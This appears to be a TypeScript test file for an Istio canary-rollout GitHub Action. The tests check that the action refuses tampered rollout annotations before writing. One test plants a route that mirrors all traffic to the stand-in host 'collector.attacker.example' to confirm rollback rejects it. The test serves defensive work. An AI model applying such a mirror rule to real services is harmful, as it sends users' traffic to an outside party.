import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, test } from 'node:test';
import type { DestinationRule, VirtualService } from '../../src/istio/types.ts';
import { backendVirtualService, SHOP, shopObjects } from '../../src/sandbox/fixtures.ts';
import { startSandbox, type Sandbox } from '../../src/sandbox/sandbox.ts';
import { assertPassed, runAction, type ActionRun } from '../helpers/action-runner.ts';
import { assertExactly, backendVs, primaryRoute, resetShop, weights } from '../helpers/shop.ts';

const RPS = 40;
const PREFIX = 'istio-canary.dev/';
/** The run id the action runner's environment gives this job: predictable by anyone. */
const RUN_ID = 'github:acme/shop/4242/1/canary';
const TESTER_MATCH = '- headers:\n    canary:\n      exact: canary-tester\n';

/**
 * A complete rollout state as someone with edit rights on the VirtualService could write it on an
 * object with no rollout: it claims that `testers` and `reviews-api`, two of the user's routes,
 * were inserted by the rollout.
 */
function plantedState(owner: string): Record<string, string> {
  return {
    [`${PREFIX}original-route`]: JSON.stringify(backendVirtualService().spec.http[2]),
    [`${PREFIX}route-index`]: '2',
    [`${PREFIX}route-name`]: 'primary',
    [`${PREFIX}host`]: 'backend',
    [`${PREFIX}stable-subset`]: 'v1',
    [`${PREFIX}canary-subset`]: 'v2',
    [`${PREFIX}weight`]: '10',
    [`${PREFIX}owner`]: owner,
    [`${PREFIX}started-at`]: '2025-01-01T00:00:00.000Z',
    [`${PREFIX}updated-at`]: '2025-01-01T00:00:00.000Z',
    [`${PREFIX}added-routes`]: '["testers","reviews-api"]',
  };
}

// Nothing here reads metrics (steps watch for 0 s), so the simulator's own endpoint will do.
describe('a saved state is checked against its VirtualService before any write (dist/, sandbox)', () => {
  let sandbox: Sandbox;
  let inputs: Record<string, string>;

  before(async () => {
    sandbox = await startSandbox({ prometheus: 'off', rps: RPS });
    inputs = {
      kubeconfig: sandbox.kubeconfig,
      'virtual-service': 'backend',
      'stable-subset': 'v1',
      'canary-subset': 'v2',
    };
  });
  after(() => sandbox?.stop());
  beforeEach(() => {
    resetShop(sandbox, RPS);
    sandbox.api.put(originalRule());
  });

  const vs = () => backendVs(sandbox) as VirtualService;
  const rule = () => sandbox.api.get('destinationrules', SHOP, 'backend') as DestinationRule;
  const writes = () => sandbox.api.requests.filter((r) => r.method !== 'GET').length;

  /** `current` with `annotations` merged in, written as someone else would write it. */
  function plant(annotations: Record<string, string>): VirtualService {
    const current = structuredClone(vs());
    current.metadata.annotations = { ...current.metadata.annotations, ...annotations };
    sandbox.api.put(current);
    return vs();
  }

  async function stepTo10(extra: Record<string, string> = {}): Promise<void> {
    const run = await runAction('main', {
      inputs: { ...inputs, weight: '10', duration: '0', ...extra },
    });
    assertPassed(run);
    assert.deepEqual(weights(primaryRoute(sandbox)), { v1: 90, v2: 10 });
  }

  /** The run failed, wrote nothing, left the VirtualService as `before`, and said how to recover. */
  function assertRefused(run: ActionRun, before: VirtualService, writesBefore: number): void {
    assert.notEqual(run.code, 0, run.stdout);
    assert.equal(writes(), writesBefore, 'nothing was written');
    assertExactly(vs(), before);
    assert.match(run.stdout, /does not explain/);
    assert.match(
      run.stdout,
      /^ {4}kubectl -n shop annotate virtualservice backend istio-canary\.dev\/original-route- /m,
      'says how to forget the rollout by hand, the command on a line of its own',
    );
  }

  test('rollback does not restore a planted original that mirrors all traffic to an outside host', async () => {
    await stepTo10();
    const saved = JSON.parse(vs().metadata.annotations![`${PREFIX}original-route`]) as object;
    const before = plant({
      [`${PREFIX}original-route`]: JSON.stringify({
        ...saved,
        mirror: { host: 'collector.attacker.example', port: { number: 443 } },
        mirrorPercentage: { value: 100 },
      }),
    });
    const writesBefore = writes();
    const run = await runAction('main', { inputs: { ...inputs, command: 'rollback' } });
    assertRefused(run, before, writesBefore);
    assert.ok(!('mirror' in primaryRoute(sandbox)), 'no mirror was written');
    assert.match(run.stdout, /mirror.*collector\.attacker\.example/);
  });

  test('rollback of a planted state on a VirtualService with no rollout deletes none of its routes', async () => {
    const before = plant(plantedState('someone'));
    const writesBefore = writes();
    const run = await runAction('main', {
      inputs: { kubeconfig: inputs.kubeconfig, 'virtual-service': 'backend', command: 'rollback' },
    });
    assertRefused(run, before, writesBefore);
    assert.deepEqual(
      vs().spec.http!.map((r) => r.name),
      ['testers', 'reviews-api', 'primary'],
    );
    assert.match(run.stdout, /added-routes.*"testers".*"reviews-api"/);
  });

  test('the post step does not act on a planted state whose owner is the run id of its job', async () => {
    const before = plant(plantedState(RUN_ID));
    const writesBefore = writes();
    const post = await runAction('post', {
      inputs: { ...inputs, weight: '10' },
      state: { 'main-started': 'true', 'run-id': RUN_ID },
    });
    assertRefused(post, before, writesBefore);
    assert.deepEqual(
      vs().spec.http!.map((r) => r.name),
      ['testers', 'reviews-api', 'primary'],
    );
  });

  test('promote with cleanup removes the subset of the input, and refuses a state that names another', async () => {
    const rule0 = structuredClone(originalRule());
    rule0.spec.subsets = [{ name: 'v0', labels: { version: 'v0' } }, ...rule0.spec.subsets!];
    sandbox.api.put(rule0);
    await stepTo10();
    const before = plant({ [`${PREFIX}stable-subset`]: 'v0' });
    const ruleBefore = rule();
    const writesBefore = writes();
    const run = await runAction('main', {
      inputs: { ...inputs, command: 'promote', cleanup: 'true' },
    });
    assertRefused(run, before, writesBefore);
    assert.deepEqual(rule(), ruleBefore, 'no subset left the DestinationRule');
    assert.match(run.stdout, /stable-subset.*"v1".*"v0"/);
  });

  test('the next step refuses a state that claims routes it did not insert', async () => {
    await stepTo10({ 'canary-match': TESTER_MATCH });
    assert.deepEqual(
      vs().spec.http!.map((r) => r.name),
      ['testers', 'reviews-api', 'primary-canary-testers', 'primary'],
    );
    const before = plant({
      [`${PREFIX}added-routes`]: '["primary-canary-testers","reviews-api"]',
    });
    const writesBefore = writes();
    const run = await runAction('main', {
      inputs: { ...inputs, weight: '50', duration: '0', 'canary-match': TESTER_MATCH },
    });
    assertRefused(run, before, writesBefore);
    assert.match(run.stdout, /"reviews-api"/);
  });

  test('a cancelled step restores its own stage, even over an edit of the route made meanwhile', async () => {
    let writesSeen = 0;
    const remove = sandbox.api.onBeforeWrite(() => {
      // The second write of the job is its restore: someone edits the route just before it.
      if (++writesSeen !== 2) return;
      const current = structuredClone(vs());
      current.spec.http!.find((r) => r.name === 'primary')!.timeout = '30s';
      sandbox.api.put(current);
    });
    try {
      const run = await runAction('main', {
        inputs: { ...inputs, weight: '10', duration: '60s', interval: '2s' },
        interrupt: { when: /Watching/, signal: 'SIGTERM' },
      });
      assert.notEqual(run.code, 0, 'a cancelled step fails');
      assert.equal(writesSeen >= 2, true, run.stdout);
      assert.match(run.stdout, /conflict/i, 'the edit landed between our read and our write');
    } finally {
      remove();
    }
    assertExactly(vs(), backendVirtualService());
  });

  test('a rollout of our own still rolls back and promotes, with a foreign key under the prefix left alone', async () => {
    plant({ [`${PREFIX}reviewed-by`]: 'platform-team' });
    await stepTo10({ 'canary-match': TESTER_MATCH });
    const rollback = await runAction('main', { inputs: { ...inputs, command: 'rollback' } });
    assertPassed(rollback);
    assert.equal(rollback.outputs.result, 'rolled-back');
    assert.match(rollback.stdout, /istio-canary\.dev\/reviewed-by.*left alone/);
    const expected = backendVirtualService();
    expected.metadata.annotations![`${PREFIX}reviewed-by`] = 'platform-team';
    assertExactly(vs(), expected);

    await stepTo10();
    const promote = await runAction('main', {
      inputs: { ...inputs, command: 'promote', cleanup: 'true' },
    });
    assertPassed(promote);
    assert.equal(promote.outputs.result, 'promoted');
    assert.deepEqual(weights(primaryRoute(sandbox)), { v2: 100 });
    assert.deepEqual(
      rule().spec.subsets!.map((s) => s.name),
      ['v2'],
      'the subset of the input left the DestinationRule',
    );
  });
});

/** The sandbox's backend DestinationRule as shopObjects() creates it. */
function originalRule(): DestinationRule {
  const found = shopObjects().find((o) => o.kind === 'DestinationRule');
  return structuredClone(found) as unknown as DestinationRule;
}
